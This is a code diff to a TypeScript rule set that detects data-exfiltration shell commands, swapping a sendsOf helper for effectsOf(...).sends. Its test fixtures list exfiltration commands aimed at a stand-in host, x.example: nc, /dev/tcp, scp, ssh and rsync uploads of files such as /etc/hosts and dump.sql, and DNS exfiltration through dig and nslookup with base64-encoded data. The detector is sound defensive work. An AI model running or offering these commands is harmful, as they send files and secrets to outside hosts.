@@ -4,7 +4,7 @@
  * rsync, ssh, ftp, smb, mail, DNS). Techniques: https://attack.mitre.org/techniques/T1048/.
  */
 import type { Rule } from '../rule.js';
-import { sendsOf, type Send } from '../effects/index.js';
+import { effectsOf, type Send } from '../effects/index.js';
 
 /** localhost, 127/8, ::1, 0.0.0.0 and the Docker host alias: not another host. */
 export function isLoopbackHost(host: string): boolean {
@@ -26,7 +26,7 @@ export const EXFIL_RULES: Rule[] = [
       match: ['nc x.example 4444 < /etc/hosts', "bash -c 'cat notes.txt > /dev/tcp/x.example/443'", 'scp ./dump.sql user@x.example:', "ssh x.example 'cat > x' < data.tar", 'rsync -r ./dir x.example:'],
       not_match: ['scp user@x.example:/tmp/log.txt .', 'nc -zv db.internal 5432', 'rsync -a ./src/ ./backup/', 'echo PING | nc -q1 localhost 6379'],
     },
-    match: { command: (c) => remoteSends(sendsOf(c)).some((s) => s.channel !== 'http' && s.channel !== 'dns' && (s.files.length > 0 || s.stdin)) },
+    match: { command: (c) => remoteSends(effectsOf(c).sends).some((s) => s.channel !== 'http' && s.channel !== 'dns' && (s.files.length > 0 || s.stdin)) },
   },
   {
     id: 'dns-exfil',
@@ -40,6 +40,6 @@ export const EXFIL_RULES: Rule[] = [
       match: ['dig $(cat /etc/hostname | base64).x.example', 'for l in $(cat s.txt); do nslookup $l.x.example; done', 'host aGVsbG8gd29ybGQgdGhpcyBpcyBhIGxvbmcgZW5jb2RlZCBsYWJlbA.x.example'],
       not_match: ['dig example.com', 'nslookup github.com 8.8.8.8', 'host -t mx example.org'],
     },
-    match: { command: (c) => sendsOf(c).some((s) => s.channel === 'dns') },
+    match: { command: (c) => effectsOf(c).sends.some((s) => s.channel === 'dns') },
   },
 ];
